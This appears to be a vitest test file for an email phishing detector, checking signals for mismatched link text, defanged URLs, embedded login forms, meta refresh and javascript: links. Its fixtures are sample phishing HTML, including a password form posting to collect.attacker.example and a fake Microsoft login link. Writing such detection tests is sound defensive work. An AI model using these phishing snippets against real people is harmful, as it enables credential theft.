import { describe, expect, it } from 'vitest';
import { analyzeEmail } from '../../src/email/index.js';
import { eml } from '../helpers/eml.js';
import { signal } from '../helpers/verdict.js';

const scan = (html: string, text?: string) => analyzeEmail(eml({ html, ...(text ? { text } : {}) }), { scorer: null });

describe('email.link.text_href_mismatch', () => {
  const ID = 'email.link.text_href_mismatch';
  it('fires when the text shows one site and the link goes to another', async () => {
    const v = await scan('<p><a href="http://198.51.100.23/owa/login.php">https://login.microsoftonline.com/</a></p>');
    expect(signal(v, ID)).toMatchObject({
      severity: 'high',
      evidence: [{ where: 'body:html', text: '"https://login.microsoftonline.com/" -> http://198.51.100.23/owa/login.php' }],
    });
    const v2 = await scan('<a href="https://secure-login.attacker.example/pp">www.paypal.com</a>');
    expect(signal(v2, ID)?.message).toContain('paypal.com');
  });
  it.each([
    ['click tracking on the same company', '<a href="https://click.shop.example/t/abc">www.shop.example</a>'],
    ['a subdomain of the shown site', '<a href="https://www.bank.example/login">bank.example</a>'],
    ['ordinary words as link text', '<a href="https://tracker.example/x">Read more</a>'],
    ['an email address as text', '<a href="mailto:help@shop.example">help@shop.example</a>'],
  ])('stays silent for %s', async (_, html) => {
    expect(signal(await scan(html), ID)).toBeUndefined();
  });
});

describe('email.link.obfuscated_url', () => {
  const ID = 'email.link.obfuscated_url';
  it('fires on defanged URLs a reader would re-arm', async () => {
    const v = await analyzeEmail(eml({ text: 'Open hxxps://invoice-portal[.]attacker.example/view to see it.' }));
    expect(signal(v, ID)).toMatchObject({ severity: 'medium', evidence: [{ where: 'body:text', text: 'https://invoice-portal.attacker.example/view' }] });
  });
  it('stays silent for ordinary URLs and brackets', async () => {
    const v = await analyzeEmail(eml({ text: 'See https://docs.sender.example/guide [1] and (see above).' }));
    expect(signal(v, ID)).toBeUndefined();
  });
});

describe('email.link.form_in_body', () => {
  const ID = 'email.link.form_in_body';
  it('is critical for a form with a password field', async () => {
    const v = await scan('<form action="https://collect.attacker.example/p.php"><input name="u"><input type="password" name="p"></form>');
    expect(signal(v, ID)).toMatchObject({ severity: 'critical' });
    expect(v.score).toBeGreaterThanOrEqual(0.95);
  });
  it('is high for another submitting form', async () => {
    const v = await scan('<form action="https://survey.attacker.example/s"><input name="card"></form>');
    expect(signal(v, ID)?.severity).toBe('high');
  });
  it('stays silent without a form', async () => {
    expect(signal(await scan('<p>Reply to this email to answer the survey.</p>'), ID)).toBeUndefined();
  });
});

describe('email.link.meta_refresh and email.link.script_url', () => {
  it('fires on a meta refresh', async () => {
    const v = await scan('<meta http-equiv="refresh" content="0; url=https://landing.attacker.example/">hi');
    expect(signal(v, 'email.link.meta_refresh')?.evidence[0]?.text).toBe('https://landing.attacker.example/');
  });
  it('fires on javascript: and data: links but not on data: images', async () => {
    const v = await scan('<a href="javascript:location=\'https://x.attacker.example\'">Open</a>');
    expect(signal(v, 'email.link.script_url')?.severity).toBe('high');
    const img = await scan('<img src="data:image/png;base64,iVBORw0KGgo=">');
    expect(signal(img, 'email.link.script_url')).toBeUndefined();
    expect(signal(img, 'email.link.meta_refresh')).toBeUndefined();
  });
});
